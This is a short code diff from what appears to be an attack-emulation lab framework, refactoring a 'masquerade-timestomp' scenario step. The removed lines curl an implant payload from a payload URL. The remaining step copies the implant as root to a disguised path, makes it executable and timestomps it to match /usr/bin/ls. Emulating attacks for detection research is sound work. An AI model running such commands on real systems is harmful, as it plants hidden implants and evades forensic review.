@@ -17,6 +17,7 @@ from provarmor.lab.scenarios.implants import drop_dir, implant_payload
 from provarmor.lab.scenarios.steps import (
     delete,
     deletion_step,
+    download,
     exploit_step,
     implant_step,
     start_implant,
@@ -106,8 +107,7 @@ def plan(ctx: LabContext) -> Plan:
             Action(
                 step="masquerade-timestomp",
                 channel=Channel.IMPLANT,
-                command=f"mkdir -p {folder} && curl -s -o {folder}/a "
-                f"{ctx.payload_url(implant.path)} && "
+                command=f"{download(ctx, implant, f'{folder}/a')} && "
                 + _as_root(
                     f"cp {folder}/a {fake} && chmod 755 {fake} && "
                     f"touch -r /usr/bin/ls {fake} && ls -la --time-style=+%F {fake}"
